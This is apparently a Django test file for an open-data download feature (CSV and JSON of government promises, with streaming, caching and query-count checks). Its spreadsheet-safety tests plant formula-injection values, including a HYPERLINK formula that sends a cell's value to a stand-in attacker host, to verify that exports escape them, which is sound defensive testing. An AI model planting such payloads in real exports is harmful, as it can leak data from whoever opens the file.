"""Open data at /data/: every file in CSV and JSON, documented, streamed, at a fixed number of queries."""

import csv
import gzip
import io
import json
import os
import shutil
import threading
import time
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from unittest import mock

import time_machine
from django.conf import settings
from django.http import StreamingHttpResponse
from django.test import RequestFactory, TestCase, override_settings
from django.urls import reverse

from promises import downloads
from promises.models import Indicator, Promise, StatusChange
from promises.views import open_data as data

from .helpers import (
    grow,
    make_claim,
    make_indicator,
    make_promise,
    make_reading,
    make_source,
    queries_per_url,
    rate,
    streamed,
)

# Queries per download: the promises file looks up the default administration first.
PINNED = {"promises": 2, "indicators": 1, "readings": 1, "sources": 1, "changes": 1, "claims": 1}


def url(table: str, fmt: str) -> str:
    return reverse("promises:download", kwargs={"table": table, "fmt": fmt})


def read_csv(text: str) -> tuple[list[str], list[dict]]:
    """The comment lines and the rows of a downloaded CSV."""
    lines = text.splitlines(keepends=True)
    comments = [line.strip() for line in lines if line.startswith("#")]
    rows = list(csv.DictReader(io.StringIO("".join(line for line in lines if not line.startswith("#")))))
    return comments, rows


class DownloadTests(TestCase):
    def setUp(self):
        grow(2)
        make_claim(promises=Promise.objects.all()[:2])

    def download(self, table: str, fmt: str, **params) -> str:
        response = self.client.get(url(table, fmt), params)
        assert response.status_code == 200, (table, fmt)
        return "".join(streamed(response))

    def test_every_file_states_its_licence_and_when_it_was_generated(self):
        for table in data.TABLES.values():
            comments, rows = read_csv(self.download(table.name, "csv"))
            assert any("CC BY 4.0" in line for line in comments), table.name
            generated = next(line for line in comments if line.startswith("# generated_at: "))
            assert datetime.fromisoformat(generated.removeprefix("# generated_at: ")).utcoffset() is not None
            assert list(rows[0]) == [column.key for column in table.columns], table.name

            document = json.loads(self.download(table.name, "json"))
            assert document["license"]["name"] == "CC BY 4.0"
            assert datetime.fromisoformat(document["generated_at"]).utcoffset() is not None
            assert [column["key"] for column in document["columns"]] == list(rows[0])
            assert all(column["description"] for column in document["columns"])
            assert len(document["rows"]) == len(rows) > 0, table.name
            assert list(document["rows"][0]) == list(rows[0])

    def test_csv_and_json_say_the_same_thing(self):
        _, rows = read_csv(self.download("readings", "csv"))
        document = json.loads(self.download("readings", "json"))
        assert [row["id"] for row in rows] == [str(row["id"]) for row in document["rows"]]

    def test_numbers_are_numbers_and_dates_are_iso(self):
        indicator = make_indicator(slug="tempat-sampah", unit="unit")
        make_reading(indicator, value=Decimal(1347))
        make_reading(indicator, value=Decimal("2.5"), value_max=Decimal(3))
        rows = [
            row for row in json.loads(self.download("readings", "json"))["rows"] if row["indicator"] == "tempat-sampah"
        ]
        assert [(row["value"], row["value_max"]) for row in rows] == [(1347, None), (2.5, 3)]
        assert rows[0]["as_of"] == "2025-08-14"
        assert rows[0]["recorded_at"].endswith("+08:00")  # WITA
        _, csv_rows = read_csv(self.download("readings", "csv"))
        assert [row["value"] for row in csv_rows if row["indicator"] == "tempat-sampah"] == ["1347", "2.5"]

        claim = json.loads(self.download("claims", "json"))["rows"][0]
        assert (claim["kept"], claim["total"], claim["percent"], claim["date"]) == (22, 72, 30.5, "2025-08-14")

    def test_lists_are_arrays_in_json_and_space_separated_in_csv(self):
        promise = make_promise(code="CP-9")
        other = make_promise(code="CP-10")
        source = make_source(url="https://berita.example/dua-janji")
        promise.source_links.create(source=source)
        other.source_links.create(source=source)
        row = next(r for r in json.loads(self.download("sources", "json"))["rows"] if r["url"] == source.url)
        assert row["promise_codes"] == ["CP-10", "CP-9"]
        _, rows = read_csv(self.download("sources", "csv"))
        assert next(r for r in rows if r["url"] == source.url)["promise_codes"] == "CP-10 CP-9"

    def test_a_promise_row_has_its_status_sector_origin_and_last_change(self):
        promise = make_promise(code="CP-77", title="Janji yang dinilai")
        change = rate(promise)
        _, rows = read_csv(self.download("promises", "csv"))
        row = next(r for r in rows if r["code"] == "CP-77")
        assert row["status"] == "dalam_proses"
        assert row["verification"] == "dikonfirmasi_media"
        assert row["sector"] == promise.sector.slug
        assert row["origin"] == "kampanye"
        assert datetime.fromisoformat(row["last_change"]) == change.created_at.replace(microsecond=0)

    def test_the_promises_download_honours_the_list_filters(self):
        rated = make_promise(code="CP-50", title="Tempat sampah untuk setiap RT")
        rate(rated)
        make_promise(code="CP-51", title="Dana Pengaman untuk pasien")
        _, rows = read_csv(self.download("promises", "csv", q="sampah", status="dalam_proses"))
        assert [row["code"] for row in rows] == ["CP-50"]
        _, rows = read_csv(self.download("promises", "csv", bidang=rated.sector.slug))
        assert [row["code"] for row in rows] == ["CP-50"]

    def test_the_list_page_links_to_the_download_of_its_current_filter(self):
        response = self.client.get(reverse("promises:list"), {"status": "dalam_proses", "halaman": "1"})
        assert f'href="{url("promises", "csv")}?status=dalam_proses"' in response.text
        response = self.client.get(reverse("promises:list"), {"q": "x"}, headers={"HX-Request": "true"})
        assert f'href="{url("promises", "csv")}?q=x"' in response.text

    def test_an_unknown_file_is_not_found(self):
        assert self.client.get(url("users", "csv")).status_code == 404
        assert self.client.get(url("promises", "xlsx")).status_code == 404

    def test_downloads_set_no_cookie_and_only_answer_get(self):
        response = self.client.get(url("promises", "csv"))
        assert not response.cookies
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert "attachment" in response["Content-Disposition"]
        assert self.client.post(url("promises", "csv")).status_code == 405


# What an editor can type to make a spreadsheet run a formula, or hide one behind a tab or a carriage return.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1", "-1+2", "@SUM(1)", "\tdengan tab", "\rdengan CR"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class SpreadsheetSafetyTests(TestCase):
    def setUp(self):
        indicator = make_indicator(slug="rumus")
        for payload in FORMULAS:
            make_source(headline=payload)
            change = rate(make_promise(title=payload), reason=payload)
            # the service strips a leading tab or CR from a reason; a row written another way may keep it
            StatusChange.objects.filter(pk=change.pk).update(reason=payload)
            make_reading(indicator, note=payload)
        self.planted = {"sources": "headline", "changes": "reason", "readings": "note", "promises": "title"}

    def download(self, table: str, fmt: str) -> str:
        return "".join(streamed(self.client.get(url(table, fmt))))

    def test_every_csv_cell_that_holds_a_formula_starts_with_an_apostrophe(self):
        for table, column in self.planted.items():
            _, rows = read_csv(self.download(table, "csv"))
            cells = [row[column] for row in rows]
            assert sorted(cell for cell in cells if cell.startswith("'")) == sorted("'" + p for p in FORMULAS), table
        for table in data.TABLES:
            _, rows = read_csv(self.download(table, "csv"))
            dangerous = [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_START)]
            assert dangerous == [], table

    def test_json_keeps_the_values_as_they_are(self):
        for table, column in self.planted.items():
            rows = json.loads(self.download(table, "json"))["rows"]
            assert {row[column] for row in rows} >= set(FORMULAS), table
            assert not any(str(row[column]).startswith("'") for row in rows), table

    def test_only_text_is_escaped_and_the_rule_can_be_undone(self):
        assert data._csv_cell(Decimal("-5")) == "-5" and data._csv_cell(-5) == "-5"  # numbers keep their sign
        assert data._csv_cell(["-A", "B"]) == "'-A B"
        for value in [*FORMULAS, "'sudah berapostrof", "''", "biasa", "", "- tanda hubung"]:
            assert data.spreadsheet_value(data._csv_cell(value)) == value, value
        assert data.spreadsheet_value("'biasa") == "'biasa"  # an apostrophe the rule did not add stays

    def test_the_data_page_explains_the_apostrophe(self):
        response = self.client.get(reverse("promises:data"))
        assert "diberi apostrof (<code>'</code>) di depannya" in response.text
        assert "<code>=</code>, <code>+</code>, <code>-</code>, <code>@</code>, tab, atau CR" in response.text


class StreamingTests(TestCase):
    """A filtered file (the promise list's filters, one indicator's figures) is built for its request and
    streamed; the whole tables are files (FileTests)."""

    def filtered(self) -> list[tuple[str, dict]]:
        return [
            ("promises", {"status": "dalam_proses"}),
            ("readings", {"indikator": Indicator.objects.first().slug}),
        ]

    def test_filtered_downloads_stream_and_their_rows_are_read_only_while_the_body_is_iterated(self):
        grow(3)
        for table, params in self.filtered():
            for fmt in data.FORMATS:
                with self.assertNumQueries(1):  # the administration, or the indicator
                    response = self.client.get(url(table, fmt), params)
                assert isinstance(response, StreamingHttpResponse), (table, fmt)
                assert not hasattr(response, "content")
                with self.assertNumQueries(1):
                    body = "".join(streamed(response))
                assert body, (table, fmt)

    def test_a_large_filtered_table_is_sent_in_many_small_chunks(self):
        indicator = make_indicator()
        for day in range(30):
            make_reading(indicator, value=Decimal(day))
        params = {"indikator": indicator.slug}
        with mock.patch.object(data, "CHUNK_ROWS", 5):
            chunks = streamed(self.client.get(url("readings", "csv"), params))
            json_chunks = streamed(self.client.get(url("readings", "json"), params))
        assert len(chunks) >= 6
        assert max(len(chunk) for chunk in chunks) < len("".join(chunks)) / 3
        assert len(json.loads("".join(json_chunks))["rows"]) == 30


class QueryCountTests(TestCase):
    def counts(self) -> dict[str, int]:
        return queries_per_url(self.client, [url(table, fmt) for table in data.TABLES for fmt in data.FORMATS])

    def test_each_download_costs_a_fixed_number_of_queries_once_per_data_version(self):
        grow(2)
        make_claim(promises=Promise.objects.all())
        for table, pinned in PINNED.items():
            for fmt in data.FORMATS:
                with self.assertNumQueries(1 + pinned):
                    # the data version (one cache read), then the file is built: the table's own queries
                    "".join(streamed(self.client.get(url(table, fmt))))
                with self.assertNumQueries(1):  # the data version; the file is there
                    "".join(streamed(self.client.get(url(table, fmt))))

    def test_ten_times_the_data_costs_the_same_queries(self):
        grow(2)
        make_claim(promises=Promise.objects.all())
        before = self.counts()
        grow(20)
        make_claim(promises=Promise.objects.all())
        after = self.counts()
        assert before == after
        assert Indicator.objects.count() == 22

    def test_a_sector_filter_adds_one_query_for_the_sector(self):
        grow(2)
        sector = Promise.objects.first().sector
        with self.assertNumQueries(3):
            "".join(streamed(self.client.get(url("promises", "csv"), {"bidang": sector.slug})))


class FileTests(TestCase):
    """The whole tables are written once per data version and then served from the file (promises/downloads.py)."""

    def setUp(self):
        grow(2)
        make_claim(promises=Promise.objects.all()[:2])

    def get(self, table: str, fmt: str, **headers) -> bytes:
        response = self.client.get(url(table, fmt), headers=headers)
        assert response.status_code == 200, (table, fmt)
        return b"".join(response.streaming_content)

    def builds(self):
        return mock.patch.object(downloads, "write", wraps=downloads.write)

    def files(self) -> set[str]:
        """Every file but the lock files (temporary files included: they start with a dot too)."""
        found = Path(settings.DOWNLOADS_DIR).rglob("*")
        return {str(p.relative_to(settings.DOWNLOADS_DIR)) for p in found if p.is_file() and p.name != ".lock"}

    def test_the_second_request_is_answered_from_the_file_without_building_it(self):
        with self.builds() as write:
            first = self.get("promises", "csv")
            second = self.get("promises", "csv")
            gzipped = self.get("promises", "csv", accept_encoding="gzip")
        assert write.call_count == 1
        assert first == second == gzip.decompress(gzipped)
        assert len(self.files()) == 2  # the file and its gzip copy

    def test_a_write_makes_a_new_file_and_the_old_ones_are_removed(self):
        with self.builds() as write:
            before = self.get("promises", "csv").decode()
            promise = Promise.objects.order_by("pk").first()
            rate(promise, status=Promise.Status.TERSENDAT, reason="Anggaran belum cair.")
            after = self.get("promises", "csv").decode()
            assert write.call_count == 2
            assert self.get("promises", "csv").decode() == after and write.call_count == 2
        row = next(r for r in read_csv(after)[1] if r["code"] == promise.code)
        assert row["status"] == "tersendat" and before != after
        old_files = self.files()
        with mock.patch.object(downloads, "KEEP_SECONDS", -1):  # the previous version's folder has waited enough
            rate(promise, status=Promise.Status.DALAM_PROSES, reason="Anggaran cair.")
            self.get("promises", "json")
        assert not old_files & self.files()
        assert len(self.files()) == 2

    def test_the_file_holds_what_the_streamed_download_held(self):
        request = RequestFactory().get(url("readings", "csv"))
        with time_machine.travel(datetime(2026, 5, 1, 8, 0, tzinfo=UTC), tick=False):
            for table in data.TABLES.values():
                for fmt in data.FORMATS:
                    request = RequestFactory().get(url(table.name, fmt))
                    streamed_text = "".join(data._chunks(data._lines(request, table, fmt)))
                    assert self.get(table.name, fmt).decode() == streamed_text, (table.name, fmt)

    def test_it_keeps_the_headers_a_download_had(self):
        response = self.client.get(url("claims", "csv"))
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == 'attachment; filename="pantau-janji-kupang-claims.csv"'
        assert response["Access-Control-Allow-Origin"] == "*"
        assert "Content-Disposition" not in self.client.get(url("claims", "json"))
        assert int(response["Content-Length"]) == len(b"".join(response.streaming_content))
        assert self.client.get(url("claims", "csv"), headers={"if-none-match": response["ETag"]}).status_code == 304

    def test_a_file_appears_only_once_it_is_complete(self):
        request = RequestFactory().get(url("claims", "csv"))
        path = downloads.folder_for_version() / downloads.file_name(request, "claims", "csv")
        seen_while_writing = []

        def pieces():
            for n in range(3):
                yield f"line {n}\n"
                seen_while_writing.append((path.exists(), Path(f"{path}.gz").exists()))

        umask = os.umask(0o077)  # the service's (deploy/pantau-janji.service): nginx must still read the files
        try:
            downloads.serve(request, "claims", "csv", "text/csv", pieces)
        finally:
            os.umask(umask)
        assert seen_while_writing == [(False, False)] * 3  # a reader meanwhile finds no file, and waits for it
        assert path.read_text() == "line 0\nline 1\nline 2\n"
        modes = [oct(p.stat().st_mode)[-3:] for p in (path.parent.parent, path.parent, path, Path(f"{path}.gz"))]
        assert modes == ["755", "755", "644", "644"]

    def test_one_request_builds_while_the_others_wait_for_its_file(self):
        path = Path(settings.DOWNLOADS_DIR, "versi", "claims-id.csv")
        started, built = threading.Event(), []

        def slow():
            built.append("slow")
            started.set()
            yield "first\n"
            time.sleep(0.3)
            yield "second\n"

        def counted():
            built.append("again")
            yield "other\n"

        writer = threading.Thread(target=downloads.ensure, args=(path, slow))
        writer.start()
        started.wait(5)
        waiters = [threading.Thread(target=downloads.ensure, args=(path, counted)) for _ in range(3)]
        for waiter in waiters:
            waiter.start()
        for thread in [writer, *waiters]:
            thread.join(10)
        assert built == ["slow"]
        assert path.read_text() == "first\nsecond\n"

    def test_a_file_removed_with_its_folder_just_before_it_is_opened_is_built_again(self):
        real, calls = downloads.ensure, []

        def ensure_then_clean_up(path, build):
            real(path, build)
            calls.append(path)
            if len(calls) == 1:
                shutil.rmtree(path.parent)  # another process's clean-up, between the check and the open

        with mock.patch.object(downloads, "ensure", ensure_then_clean_up):
            body = self.get("claims", "csv")
        assert len(calls) == 2 and b"klaim" in body

    def test_a_build_that_fails_leaves_no_file(self):
        def failing():
            yield "half a file"
            raise RuntimeError("the database went away")

        request = RequestFactory().get(url("claims", "csv"))
        with self.assertRaises(RuntimeError):
            downloads.serve(request, "claims", "csv", "text/csv", failing)
        assert self.files() == set()  # neither the file nor a temporary one

    @override_settings(DOWNLOADS_X_ACCEL="/_unduhan/")
    def test_behind_nginx_the_answer_names_the_file_for_nginx_to_send(self):
        response = self.client.get(url("claims", "json"))
        assert response.content == b""
        location = response["X-Accel-Redirect"]
        assert location.startswith("/_unduhan/")
        sent = Path(settings.DOWNLOADS_DIR, location.removeprefix("/_unduhan/"))
        assert json.loads(sent.read_text())["dataset"] == "claims"
        assert Path(f"{sent}.gz").exists()  # for nginx's gzip_static
        assert response["Access-Control-Allow-Origin"] == "*" and "Accept-Encoding" in response["Vary"]


class DataPageTests(TestCase):
    def test_the_page_lists_every_file_and_explains_every_column(self):
        grow(1)
        response = self.client.get(reverse("promises:data"))
        assert response.status_code == 200
        for table in data.TABLES.values():
            for fmt in data.FORMATS:
                assert f'href="{url(table.name, fmt)}"' in response.text
            for column in table.columns:
                assert f"<code>{column.key}</code>" in response.text, column.key
        assert "CC BY 4.0" in response.text
        assert "dalam_proses" in response.text  # the values of a status column are listed
        assert reverse("promises:changes_feed") in response.text

    def test_every_page_links_to_the_data_page(self):
        grow(1)
        response = self.client.get(reverse("promises:home"))
        assert f'href="{reverse("promises:data")}"' in response.text
